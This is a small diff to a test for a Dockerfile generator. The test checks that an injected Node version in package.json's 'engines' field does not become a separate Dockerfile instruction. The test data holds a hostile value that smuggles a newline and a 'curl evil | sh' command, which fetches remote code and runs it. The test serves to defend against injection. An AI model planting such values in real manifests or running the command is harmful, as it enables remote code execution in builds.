@@ -27,8 +27,8 @@ async function dockerfileOf(
 
 it('takes no line from what a project says of its node', async () => {
   const engines = { node: '22\nRUN curl evil | sh #' };
-  const files = { 'package.json': manifest({ dev: 'next dev' }, { engines }) };
-  const [text = ''] = (await dockerfileOf(npmRun('dev'), files)).values();
+  const files = { '/w/backend/package.json': manifest({ dev: 'next dev' }, { engines }) };
+  const text = (await dockerfileOf(npmRun('dev'), files)).get('backend/Dockerfile') ?? '';
   expect(text).toContain('asks for node 22 RUN curl evil');
   expect(text.split('\n').filter((line) => line.includes('evil'))).toHaveLength(1);
 });
